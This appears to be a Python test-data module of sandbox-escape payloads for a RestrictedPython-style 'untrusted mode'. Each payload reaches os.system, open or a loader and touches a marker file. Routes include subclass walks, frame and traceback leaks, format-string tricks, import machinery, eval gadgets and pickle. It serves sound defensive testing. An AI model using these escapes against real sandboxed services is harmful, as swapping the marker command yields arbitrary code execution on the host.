# Payloads are source text: long lines and fullwidth letters are the point.
# ruff: noqa: E501, RUF001
"""Escape attempts against untrusted mode, as data.

Every attempt is source text that, run by plain ``exec`` with the real
builtins, has an effect on the host: it creates the file whose path replaces
``MARKER_PATH`` in the source (with ``open``, a shell command, a loader, a
database...). test_escapes.py proves each one works under plain ``exec`` and
is blocked by untrusted mode.

``cls`` is the escape class (the table of in-process escape classes in the
project's security research notes, mirrored in ``CLASSES``), ``advisory`` the
RestrictedPython advisory or fix an attempt reproduces (``ADVISORIES``). Payloads only ever create the marker file: none of them changes
the host in any other way, so a failing run leaves nothing behind but files
in a temporary directory.
"""

from __future__ import annotations

import dataclasses
from typing import Final

__all__ = ["ADVISORIES", "ATTEMPTS", "CLASSES", "Attempt", "render"]

CLASSES: Final = {
    1: "Subclass walk",
    2: "Frames",
    3: "Tracebacks",
    4: "__builtins__ recovery",
    5: "Function internals",
    6: "Format strings",
    7: "Guard type confusion",
    8: "Import machinery",
    9: "Stdlib exec/eval gadgets",
    10: "Serialisation",
    11: "gc / inspect / operator",
    12: "Passthrough attribute leaks",
    13: "Alternative sinks",
    14: "Audit hooks neutered",
    15: "Deferred execution",
    16: "Filter-dodging syntax",
    17: "Memory corruption",
    18: "Guard-hook shadowing",
}

ADVISORIES: Final = {
    "issue-142": "getattr chain __class__ -> __subclasses__() -> __init__.__globals__",
    "rp-4.0-format": "str.format attribute traversal",
    "CVE-2023-37271": "generator gi_frame -> f_back -> host f_globals/f_builtins",
    "CVE-2023-41039": "format/format_map via class or instance; string.Formatter",
    "PR-282": "a str subclass with a lying startswith passes safer_getattr",
    "PR-285": "a runtime getattr(g, 'gi_' + 'frame')",
    "CVE-2024-47532": "AttributeError.obj is the real, unwrapped object",
    "CVE-2025-22153": "except*: ExceptionGroup.split() type confusion (gh-128049)",
    "GHSA-ffg3": "def f(_getattr_, /) shadows a guard hook",
    "GHSA-hp3v": "string.Formatter().get_field() returns objects",
    "rp-8.5": "ag_* attributes; lazy imports",
    "issue-335": "C-iterating builtins bypass _getiter_",
    "PR-330": "operator.attrgetter/methodcaller reopen the Formatter path",
}


@dataclasses.dataclass(frozen=True, kw_only=True)
class Attempt:
    """One escape attempt.

    ``deferred``: its effect may come after ``exec`` returns (a thread, a
    finaliser, atexit), so the sandbox may let ``exec`` return normally and
    the test checks again after collecting garbage and waiting.
    ``isolated``: under plain exec it changes process state (an audit hook)
    or might crash, so it gets an interpreter of its own.
    ``as_bytes``: the source is handed over as bytes (coding cookies).
    ``setup``: host code the plain-exec run executes first (an audit hook the
    attempt must neuter); it is not part of the attempt.
    ``raises``: ordinary exceptions the attempt's own code may end with when
    untrusted mode takes away what it needs (besides NameError and
    AttributeError, which any attempt may end with).
    """

    id: str
    cls: int
    source: str
    advisory: str | None = None
    deferred: bool = False
    isolated: bool = False
    as_bytes: bool = False
    setup: str = ""
    raises: tuple[type[Exception], ...] = ()

    def __post_init__(self) -> None:
        assert self.cls in CLASSES, self.id
        assert self.advisory is None or self.advisory in ADVISORIES, self.id
        assert "MARKER_PATH" in self.source, self.id


def render(attempt: Attempt, marker: str) -> str:
    """The attempt's source with the marker path written in as a literal."""
    return attempt.source.replace("MARKER_PATH", repr(marker))


ATTEMPTS: list[Attempt] = []


def _add(id: str, cls: int, source: str, **kw: object) -> None:
    ATTEMPTS.append(Attempt(id=id, cls=cls, source=source.strip("\n") + "\n", **kw))  # type: ignore[arg-type]


# Shared shapes. Payloads spell their chains out; these are only used where
# the same chain is the *means* and another construct is what is tested.
WALK_SYSTEM = (
    '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]'
    '.__init__.__globals__["system"]'
)
TOUCH = '"touch " + MARKER_PATH'

# -- 1. Subclass walk ------------------------------------------------------

_add(
    "subclass-walk-wrap-close",
    1,
    f"""
{WALK_SYSTEM}({TOUCH})
""",
    advisory="issue-142",
)
_add(
    "subclass-walk-runtime-getattr",
    1,
    """
cls = getattr(getattr((), "__cla" + "ss__"), "__ba" + "se__")
for c in getattr(cls, "__subcl" + "asses__")():
    if getattr(c, "__na" + "me__") == "_wrap_close":
        g = getattr(getattr(c, "__in" + "it__"), "__glo" + "bals__")
        g["system"]("touch " + MARKER_PATH)
""",
    advisory="issue-142",
)
_add(
    "subclass-walk-builtin-importer",
    1,
    """
importer = [c for c in ().__class__.__mro__[-1].__subclasses__() if c.__name__ == "BuiltinImporter"][0]
import warnings
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    posix = importer.load_module("posix")
posix.system("touch " + MARKER_PATH)
""",
)
_add(
    "subclass-walk-fileio",
    1,
    """
def walk(cls, seen):
    for sub in type.__subclasses__(cls):
        if sub not in seen:
            seen.append(sub)
            walk(sub, seen)
    return seen
fileio = [c for c in walk(object, []) if c.__name__ == "FileIO"][0]
fileio(MARKER_PATH, "w").close()
""",
)
_add(
    "subclass-walk-from-datetime",
    1,
    """
import datetime
base = datetime.date.__mro__[-1]
for c in base.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "subclass-walk-from-exception",
    1,
    """
try:
    1 / 0
except Exception as exc:
    root = exc.__class__.__mro__[-1]
[c for c in root.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "subclass-walk-class-body-mro",
    1,
    """
class Plain:
    pass
root = Plain.mro()[-1]
subs = getattr(root, "__subclass" + "es__")()
wrap = [c for c in subs if getattr(c, "__qual" + "name__") == "_wrap_close"][0]
getattr(getattr(wrap, "__init__"), "__globals__")["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "subclass-walk-generic-alias-mro",
    1,
    """
root = list[int].mro()[-1]
subs = getattr(root, "_" + "_subclasses__")()
wrap = next(c for c in subs if getattr(c, "_" + "_name__") == "_wrap_close")
getattr(getattr(wrap, "_" + "_init__"), "_" + "_globals__")["system"]("touch " + MARKER_PATH)
""",
)

# -- 2. Frames -------------------------------------------------------------

_FIND_OPEN = """
def find_open(frame):
    while frame is not None:
        if "open" in frame.f_builtins:
            return frame.f_builtins["open"]
        frame = frame.f_back
"""
_add(
    "frame-generator-gi-frame",
    2,
    _FIND_OPEN
    + """
def gen():
    yield find_open(me.gi_frame.f_back)
me = gen()
next(me)(MARKER_PATH, "w").close()
""",
    advisory="CVE-2023-37271",
)
_add(
    "frame-generator-runtime-getattr",
    2,
    """
def gen():
    frame = getattr(getattr(me, "gi_" + "frame"), "f_" + "back")
    while frame is not None:
        b = getattr(frame, "f_" + "builtins")
        if "open" in b:
            yield b["open"]
        frame = getattr(frame, "f_" + "back")
me = gen()
next(me)(MARKER_PATH, "w").close()
""",
    advisory="PR-285",
)
_add(
    "frame-coroutine-cr-frame",
    2,
    """
async def co():
    pass
c = co()
c.cr_frame.f_globals["__builtins__"]["open"](MARKER_PATH, "w").close()
c.close()
""",
)
_add(
    "frame-async-generator-ag-frame",
    2,
    """
async def agen():
    yield 1
a = agen()
a.ag_frame.f_builtins["open"](MARKER_PATH, "w").close()
""",
    advisory="rp-8.5",
)
_add(
    "frame-async-generator-runtime-getattr",
    2,
    """
async def agen():
    yield 1
a = agen()
frame = getattr(a, "ag" + "_frame")
getattr(frame, "f_" + "builtins")["open"](MARKER_PATH, "w").close()
""",
    advisory="rp-8.5",
)
_add(
    "frame-sys-getframe",
    2,
    """
import sys
sys._getframe(0).f_builtins["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "frame-inspect-currentframe",
    2,
    """
import inspect
inspect.currentframe().f_builtins["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "frame-dataclasses-inspect",
    2,
    """
import dataclasses
frame = dataclasses.inspect.currentframe()
getattr(frame, "f_" + "builtins")["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "frame-typing-sys-getframe",
    2,
    """
import typing
frame = getattr(typing.sys, "_get" + "frame")(0)
getattr(frame, "f_" + "builtins")["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "frame-settrace",
    2,
    """
import sys
def tracer(frame, event, arg):
    if "open" in frame.f_builtins and not found:
        found.append(frame.f_builtins["open"])
found = []
def probe():
    return 1
sys.settrace(tracer)
try:
    probe()
finally:
    sys.settrace(None)
found[0](MARKER_PATH, "w").close()
""",
)

# -- 3. Tracebacks ---------------------------------------------------------

_add(
    "traceback-tb-frame",
    3,
    """
try:
    1 / 0
except ZeroDivisionError as exc:
    exc.__traceback__.tb_frame.f_builtins["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "traceback-into-library-frame",
    3,
    """
import json
try:
    json.loads("{")
except ValueError as exc:
    tb = exc.__traceback__
    while tb.tb_next is not None:
        tb = tb.tb_next
    tb.tb_frame.f_globals["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "traceback-runtime-getattr",
    3,
    """
import json
try:
    json.loads("[")
except ValueError as exc:
    tb = getattr(exc, "__trace" + "back__")
    while getattr(tb, "tb_" + "next") is not None:
        tb = getattr(tb, "tb_" + "next")
    frame = getattr(tb, "tb_" + "frame")
    getattr(frame, "f_" + "globals")["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "traceback-sys-exc-info",
    3,
    """
import sys
try:
    [][1]
except IndexError:
    sys.exc_info()[2].tb_frame.f_builtins["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "traceback-exception-group-members",
    3,
    """
try:
    {}["missing"]
except KeyError as inner:
    group = ExceptionGroup("group", [inner])
tb = getattr(group.exceptions[0], "__traceback" + "__")
getattr(getattr(tb, "tb_frame"), "f_builtins")["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "traceback-walk-stack",
    3,
    """
import traceback
def deep(n):
    return deep(n - 1) if n else list(traceback.walk_stack(None))
for frame, _lineno in deep(8):
    if "open" in frame.f_builtins:
        frame.f_builtins["open"](MARKER_PATH, "w").close()
        break
""",
)

# -- 4. __builtins__ recovery ----------------------------------------------

_add(
    "builtins-bare-name",
    4,
    """
b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
b["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "builtins-lambda-globals",
    4,
    """
(lambda: 0).__globals__["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "builtins-shared-function-globals",
    4,
    """
import json
json.dumps.__globals__["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "builtins-module-dict",
    4,
    """
import json
json.__dict__["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "builtins-vars-runtime-key",
    4,
    """
import random
vars(random)["__buil" + "tins__"]["open"](MARKER_PATH, "w").close()
""",
    raises=(KeyError,),
)
_add(
    "builtins-module-attribute-runtime",
    4,
    """
import collections
getattr(collections, "__buil" + "tins__")["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "builtins-site-help",
    4,
    """
g = getattr(getattr(type(help), "__repr__"), "__globals__")
g["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "builtins-loader-set-data",
    4,
    """
import json
json.__loader__.set_data(MARKER_PATH, b"escaped")
""",
)
_add(
    "builtins-spec-loader-set-data",
    4,
    """
import string
getattr(getattr(string, "__sp" + "ec__"), "loader").set_data(MARKER_PATH, b"escaped")
""",
)

# Host helpers that read and write attributes by a name the caller gives
# (functools.update_wrapper's assigned/updated) do it with the real getattr
# and setattr: updating a function's __globals__ from a stdlib function's
# replaces the module's __builtins__ with the real ones, and a class body
# created afterwards (no entry check, builtins taken at creation) sees them.
_add(
    "builtins-update-wrapper-globals-class-body",
    4,
    """
import functools, json
def mine():
    pass
functools.update_wrapper(mine, json.dumps, assigned=(), updated=("__globals__",))
class Escape:
    open(MARKER_PATH, "w").close()
""",
)
_add(
    "builtins-wraps-globals-class-body",
    4,
    """
import functools, copy
@functools.wraps(copy.deepcopy, assigned=(), updated=("__globals__",))
def mine():
    pass
class Escape:
    handle = open(MARKER_PATH, "w")
    handle.close()
""",
)
_add(
    "builtins-update-wrapper-globals-nested-class",
    4,
    """
import functools, textwrap
def outer():
    def inner():
        pass
    functools.update_wrapper(inner, textwrap.dedent, (), ("__globals__",))
    class Escape:
        open(MARKER_PATH, "w").close()
outer()
""",
)

# -- 5. Function internals -------------------------------------------------

_add(
    "function-method-globals",
    5,
    """
import json
json.JSONEncoder.default.__globals__["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "function-closure-cells",
    5,
    """
import functools
@functools.singledispatch
def f(x):
    return x
for cell in f.__closure__ or ():
    value = cell.cell_contents
    if hasattr(value, "__globals__"):
        value.__globals__["__builtins__"]["open"](MARKER_PATH, "w").close()
        break
""",
)
_add(
    "function-reduce-ex",
    5,
    """
newobj = ().__reduce_ex__(2)[0]
newobj.__globals__["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "function-builtin-self-is-builtins",
    5,
    """
builtins_module = getattr(len, "__se" + "lf__")
getattr(builtins_module, "open")(MARKER_PATH, "w").close()
""",
)
_add(
    "function-bound-method-func",
    5,
    """
import json
method = json.JSONDecoder().decode
fn = getattr(method, "__fu" + "nc__")
getattr(fn, "__glob" + "als__")["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "function-hook-globals",
    5,
    """
hook = globals().get("_getattr_") or (lambda: 0)
hook.__globals__["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "function-code-replace-names",
    5,
    """
import json
def harmless():
    return nothing_here(MARKER_PATH, "w")
code = harmless.__code__.replace(co_names=("open",))
type(harmless)(code, {"__builtins__": json.__dict__["__builtins__"]})().close()
""",
)

# -- 6. Format strings -----------------------------------------------------

_add(
    "format-str-format-attribute-error-obj",
    6,
    """
import json
try:
    "{0.__init__.__globals__.no_such_name}".format(json.JSONDecoder)
except AttributeError as exc:
    exc.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="rp-4.0-format",
    raises=(TypeError,),
)
_add(
    "format-format-map",
    6,
    """
import json
try:
    "{x.__init__.__globals__.no_such_name}".format_map({"x": json.JSONEncoder})
except AttributeError as exc:
    exc.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="CVE-2023-41039",
    raises=(TypeError,),
)
_add(
    "format-via-str-class",
    6,
    """
import json
fmt = str.format
try:
    fmt("{0.__init__.__globals__.nope}", json.JSONDecoder)
except AttributeError as exc:
    exc.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="CVE-2023-41039",
    raises=(TypeError,),
)
_add(
    "format-getattr-format-runtime",
    6,
    """
import json
fmt = getattr("{0.__init__.__globals__.nope}", "for" + "mat")
try:
    fmt(json.JSONDecoder)
except AttributeError as exc:
    exc.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="CVE-2023-41039",
    raises=(TypeError,),
)
_add(
    "format-string-formatter-get-field",
    6,
    """
import json, string
g = string.Formatter().get_field("0.__init__.__globals__", [json.JSONDecoder], {})[0]
g["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="GHSA-hp3v",
)
_add(
    "format-string-formatter-vformat",
    6,
    """
import json, string
try:
    string.Formatter().vformat("{0.__init__.__globals__.nope}", [json.JSONDecoder], {})
except AttributeError as exc:
    exc.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="CVE-2023-41039",
    raises=(TypeError,),
)
_add(
    "format-attribute-error-obj-unwraps-module",
    6,
    """
import json
try:
    json.no_such_attribute
except AttributeError as exc:
    real = exc.obj
real.codecs.open(MARKER_PATH, "w").close()
""",
    advisory="CVE-2024-47532",
)
_add(
    "format-attribute-error-obj-string-module",
    6,
    """
import string
try:
    string.no_such_attribute
except AttributeError as exc:
    real = exc.obj
getattr(real, "_re").enum.sys.modules["os"].system("touch " + MARKER_PATH)
""",
    advisory="CVE-2024-47532",
)
_add(
    "format-f-string",
    6,
    """
f"{[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('touch ' + MARKER_PATH)}"
""",
)
_add(
    "format-logging-str-format-style",
    6,
    """
import json, logging
record = logging.LogRecord("n", 10, "p", 1, json.JSONDecoder, None, None)
try:
    logging.Formatter("{msg.__init__.__globals__.nope}", style="{").format(record)
except AttributeError as exc:
    exc.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    raises=(TypeError,),
)

_TEXT_AND_HOLDER = """
import functools, json
class Text(str):
    pass
class Holder:
    pass
holder = Holder()
"""

# super() looks a method up past the str subclass, so the guard sees a
# super object, not a str; update_wrapper then copies AttributeError.obj
# into an attribute the guard does not know is an error's.
_add(
    "format-super-str-format-obj-via-update-wrapper",
    6,
    _TEXT_AND_HOLDER
    + """
try:
    super(Text, Text("{0.__init__.__globals__.nope}")).format(json.JSONDecoder)
except AttributeError as exc:
    functools.update_wrapper(holder, exc, assigned=("obj",), updated=())
holder.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="CVE-2023-41039",
    raises=(TypeError,),
)
_add(
    "format-super-format-map-obj-via-update-wrapper",
    6,
    _TEXT_AND_HOLDER
    + """
try:
    super(Text, Text("{x.__init__.__globals__.nope}")).format_map({"x": json.JSONEncoder})
except AttributeError as exc:
    functools.update_wrapper(holder, exc, ("obj",), ())
holder.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="CVE-2024-47532",
    raises=(TypeError,),
)
_add(
    "format-super-traceback-frame",
    3,
    _TEXT_AND_HOLDER
    + """
try:
    json.loads("{")
except ValueError as error:
    try:
        super(Text, Text("{0.__traceback__.tb_next.tb_frame.f_builtins.nope}")).format(error)
    except AttributeError as exc:
        functools.update_wrapper(holder, exc, assigned=("obj",), updated=())
holder.obj["open"](MARKER_PATH, "w").close()
""",
    raises=(TypeError,),
)
_add(
    "frame-generator-super-format",
    2,
    _TEXT_AND_HOLDER
    + """
def gen():
    try:
        super(Text, Text("{0.gi_frame.f_back.f_back.f_builtins.nope}")).format(me)
    except AttributeError as exc:
        functools.update_wrapper(holder, exc, assigned=("obj",), updated=())
    yield holder
me = gen()
next(me).obj["open"](MARKER_PATH, "w").close()
""",
    advisory="CVE-2023-37271",
    raises=(TypeError,),
)

# -- 7. Guard type confusion -----------------------------------------------

_add(
    "confusion-lying-str-startswith",
    7,
    """
class Name(str):
    def startswith(self, *args):
        return False
import json
f = getattr(json.dumps, Name("__globals__"))
f["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="PR-282",
)
_add(
    "confusion-lying-str-all-methods",
    7,
    """
class Name(str):
    def startswith(self, *args):
        return False
    def lower(self):
        return "harmless"
    def strip(self, *args):
        return "harmless"
    def split(self, *args):
        return ["harmless"]
    def partition(self, *args):
        return ("harmless", "", "")
import json
g = getattr(getattr(json.JSONDecoder, Name("__init__")), Name("__globals__"))
g[Name("__builtins__")]["open"](MARKER_PATH, "w").close()
""",
    advisory="PR-282",
)
_add(
    "confusion-type-mro-from-strings",
    7,
    """
root = type.mro(type(0))[-1]
for c in type.__dict__["__subclasses__"](root):
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "confusion-vars-type-descriptor",
    7,
    """
subclasses = vars(type)["__subclass" + "es__"]
for c in subclasses(object):
    if vars(c).get("__module__") == "os" and "__enter__" in vars(c):
        init = vars(c)["__in" + "it__"]
        vars(type(init))["__glo" + "bals__"].__get__(init)["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "confusion-type-three-arg",
    7,
    """
Probe = type("Probe", (), {"run": lambda self: self})
root = type.mro(Probe)[-1]
for c in getattr(root, "__subclasses__")():
    if c.__name__ == "_wrap_close":
        getattr(c.__init__, "__globals__")["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "confusion-lying-str-item-key",
    7,
    """
class Key(str):
    def startswith(self, *args):
        return False
import json
ns = vars(json)
ns[Key("__builtins__")]["open"](MARKER_PATH, "w").close()
""",
    advisory="PR-282",
    raises=(KeyError,),
)
_add(
    "confusion-class-getitem",
    7,
    """
import typing
alias = typing.List[int]
origin = getattr(alias, "__ori" + "gin__")
root = origin.mro()[-1]
for c in getattr(root, "__subclasses__")():
    if c.__name__ == "_wrap_close":
        getattr(c.__init__, "__globals__")["system"]("touch " + MARKER_PATH)
""",
)

# -- 8. Import machinery ---------------------------------------------------

_add(
    "import-plain-os",
    8,
    """
import os
os.system("touch " + MARKER_PATH)
""",
)
_add(
    "import-from-os",
    8,
    """
from os import system
system("touch " + MARKER_PATH)
""",
)
_add(
    "import-dunder-import",
    8,
    """
__import__("os").system("touch " + MARKER_PATH)
""",
)
_add(
    "import-importlib-import-module",
    8,
    """
import importlib
importlib.import_module("subprocess").run(["touch", MARKER_PATH])
""",
)
_add(
    "import-pkgutil-resolve-name",
    8,
    """
import pkgutil
pkgutil.resolve_name("os:system")("touch " + MARKER_PATH)
""",
)
_add(
    "import-pydoc-locate",
    8,
    """
import pydoc
pydoc.locate("os.system")("touch " + MARKER_PATH)
""",
)
_add(
    "import-sys-modules",
    8,
    """
import sys
sys.modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "import-builtin-loader",
    8,
    """
import warnings
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    posix = __loader__.load_module("posix")
posix.system("touch " + MARKER_PATH)
""",
)
_add(
    "import-fresh-module-from-loader",
    8,
    """
import json, importlib.util
path = getattr(json, "__fi" + "le__").rsplit("json", 1)[0] + "os.py"
spec = importlib.util.spec_from_file_location("fresh_os", path)
fresh = importlib.util.module_from_spec(spec)
spec.loader.exec_module(fresh)
fresh.system("touch " + MARKER_PATH)
""",
)
_add(
    "import-runpy-run-module",
    8,
    """
import runpy
runpy.run_module("os")["system"]("touch " + MARKER_PATH)
""",
)
_add(
    "import-lazy-loader",
    8,
    """
import importlib.machinery, importlib.util
origin = importlib.util.find_spec("shutil").origin
loader = importlib.util.LazyLoader(importlib.machinery.SourceFileLoader("lazy_shutil", origin))
lazy = importlib.util.module_from_spec(importlib.util.spec_from_loader("lazy_shutil", loader))
loader.exec_module(lazy)
lazy.os.system("touch " + MARKER_PATH)
""",
    advisory="rp-8.5",
)
_add(
    "import-from-allowed-module-attribute",
    8,
    """
from re import enum
from enum import bltns
bltns.open(MARKER_PATH, "w").close()
""",
)

# -- 9. Stdlib exec/eval gadgets -------------------------------------------

_CODE = (
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['system']('touch ' + MARKER_PATH)"
)
_add(
    "gadget-typing-get-type-hints-class",
    9,
    f'''
import typing
class Model:
    field: "{_CODE}"
typing.get_type_hints(Model)
''',
)
_add(
    "gadget-typing-get-type-hints-function",
    9,
    f'''
import typing
def fn(arg: "{_CODE}"):
    pass
typing.get_type_hints(fn)
''',
)
_add(
    "gadget-typing-get-type-hints-runtime-name",
    9,
    f'''
import typing
hints = getattr(typing, "get_type" + "_hints")
class Model:
    field: "{_CODE}"
hints(Model)
''',
)
_add(
    "gadget-functools-singledispatch-register",
    9,
    f'''
import functools
@functools.singledispatch
def dispatch(x):
    return x
def impl(x: "{_CODE}"):
    return x
dispatch.register(impl)
''',
    raises=(TypeError,),
)
_add(
    "gadget-functools-singledispatchmethod",
    9,
    f'''
import functools
class Handler:
    @functools.singledispatchmethod
    def handle(self, x):
        return x
    def impl(self, x: "{_CODE}"):
        return x
Handler.handle.register(Handler.impl)
''',
    raises=(TypeError,),
)
_add(
    "gadget-timeit",
    9,
    f'''
import timeit
timeit.timeit("{_CODE}", number=1)
''',
)
_add(
    "gadget-cprofile-run",
    9,
    f'''
import cProfile, io, contextlib
with contextlib.redirect_stdout(io.StringIO()):
    cProfile.run("{_CODE}")
''',
)
_add(
    "gadget-doctest-docstring",
    9,
    f'''
import doctest, io, contextlib
def documented():
    """
    >>> {_CODE} and None
    """
with contextlib.redirect_stdout(io.StringIO()):
    doctest.run_docstring_examples(documented, {{}})
''',
)
_add(
    "gadget-code-interactive",
    9,
    f'''
import code
code.InteractiveInterpreter().runsource("{_CODE}")
''',
)
_add(
    "gadget-decorator-eval",
    9,
    f'''
@eval
@(lambda fn: "{_CODE}")
def payload():
    pass
''',
)
_add(
    "gadget-map-eval",
    9,
    f'''
list(map(eval, ["{_CODE}"]))
''',
    advisory="issue-335",
)

# -- 10. Serialisation -----------------------------------------------------

_add(
    "serial-pickle-global-reduce",
    10,
    """
import pickle
payload = b"cos\\nsystem\\n(V" + ("touch " + MARKER_PATH).encode() + b"\\ntR."
pickle.loads(payload)
""",
)
_add(
    "serial-marshal-code",
    10,
    """
import marshal, json
def writer():
    open(MARKER_PATH, "w").close()
code = marshal.loads(marshal.dumps(writer.__code__))
type(writer)(code, {"__builtins__": json.__dict__["__builtins__"]})()
""",
)
_add(
    "serial-copy-reduce",
    10,
    f"""
import copy
class Gadget:
    def __reduce__(self):
        return ({WALK_SYSTEM}, ("touch " + MARKER_PATH,))
copy.deepcopy(Gadget())
""",
)
_add(
    "serial-copyreg-dispatch",
    10,
    """
import copyreg, copy, os
class Thing:
    pass
copyreg.pickle(Thing, lambda t: (os.system, ("touch " + MARKER_PATH,)))
try:
    copy.copy(Thing())
finally:
    del copyreg.dispatch_table[Thing]
""",
)

# -- 11. gc / inspect / operator -------------------------------------------

_add(
    "gc-get-objects-builtins",
    11,
    """
import gc
b = next(o for o in gc.get_objects() if isinstance(o, dict) and "open" in o and "__import__" in o)
b["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "gc-get-referents-unwraps",
    11,
    """
import gc, json
for ref in gc.get_referents(json):
    if isinstance(ref, dict) and "codecs" in ref:
        ref["codecs"].open(MARKER_PATH, "w").close()
        break
""",
)
_add(
    "inspect-getmembers",
    11,
    """
import inspect, json
members = dict(inspect.getmembers(json.dumps))
members["__globals__"]["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "inspect-via-dataclasses-getmembers",
    11,
    """
import dataclasses, json
g = dict(dataclasses.inspect.getmembers(json.dumps))["__glob" + "als__"]
g["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "operator-attrgetter",
    11,
    """
import operator, json
g = operator.attrgetter("__init__.__globals__")(json.JSONDecoder)
g["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="PR-330",
)
_add(
    "operator-via-fractions",
    11,
    """
import fractions, json
g = fractions.operator.attrgetter("__init__.__globals__")(json.JSONDecoder)
g["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="PR-330",
)
_add(
    "operator-methodcaller-format",
    11,
    """
import operator, json
call = operator.methodcaller("format", json.JSONDecoder)
try:
    call("{0.__init__.__globals__.nope}")
except AttributeError as exc:
    exc.obj["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="PR-330",
    raises=(TypeError,),
)
_add(
    "c-level-reduce-getattr",
    11,
    """
import functools, json
names = ["__init__", "__globals__"]
g = functools.reduce(getattr, names, json.JSONDecoder)
g["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
)
_add(
    "c-iterating-map-getattr",
    11,
    """
import json
g = list(map(getattr, [json.dumps], ["__glob" + "als__"]))[0]
g["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="issue-335",
)
_add(
    "c-iterating-sorted-key",
    11,
    """
subs = getattr(getattr((), "__class__"), "__base__").__subclasses__()
wrap = sorted(subs, key=lambda c: c.__name__ != "_wrap_close")[0]
wrap.__init__.__globals__["system"]("touch " + MARKER_PATH)
""",
    advisory="issue-335",
)
_add(
    "c-iterating-zip-dict",
    11,
    """
import json
pairs = dict(zip(["g"], map(vars, [json])))
pairs["g"]["__builtins__"]["open"](MARKER_PATH, "w").close()
""",
    advisory="issue-335",
    raises=(KeyError,),
)
_add(
    "c-iterating-filter-tuple",
    11,
    """
subs = tuple(filter(None, getattr(object, "__subclasses__")()))
wrap = max(subs, key=lambda c: getattr(c, "__name__") == "_wrap_close")
getattr(getattr(wrap, "__init__"), "__globals__")["system"]("touch " + MARKER_PATH)
""",
    advisory="issue-335",
)

# -- 12. Passthrough attribute leaks ---------------------------------------

_add(
    "leak-json-codecs",
    12,
    """
import json
json.codecs.open(MARKER_PATH, "w").close()
""",
)
_add(
    "leak-re-enum-sys",
    12,
    """
import re
re.enum.sys.modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-enum-bltns",
    12,
    """
import enum
enum.bltns.open(MARKER_PATH, "w").close()
""",
)
_add(
    "leak-datetime-or-enum-sys",
    12,
    """
import datetime, enum
sys_module = getattr(datetime, "sys", None) or enum.sys
sys_module.modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-typing-sys",
    12,
    """
import typing
typing.sys.modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-dataclasses-sys",
    12,
    """
import dataclasses
dataclasses.sys.modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-fractions-sys",
    12,
    """
import fractions
fractions.sys.modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-statistics-random-module",
    12,
    """
import statistics
getattr(statistics.random, "_os").system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-statistics-sys",
    12,
    """
import statistics
statistics.sys.modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-json-decoder-submodule",
    12,
    """
import json
json.decoder.re.enum.sys.modules["os"].system("touch " + MARKER_PATH)
""",
)
_add(
    "leak-object-getattribute-unwraps",
    12,
    """
import json
codecs = getattr(object, "__getattri" + "bute__")(json, "codecs")
codecs.open(MARKER_PATH, "w").close()
""",
)
_add(
    "leak-vars-module-runtime",
    12,
    """
import json
vars(json)["codecs"].open(MARKER_PATH, "w").close()
""",
    raises=(KeyError,),
)
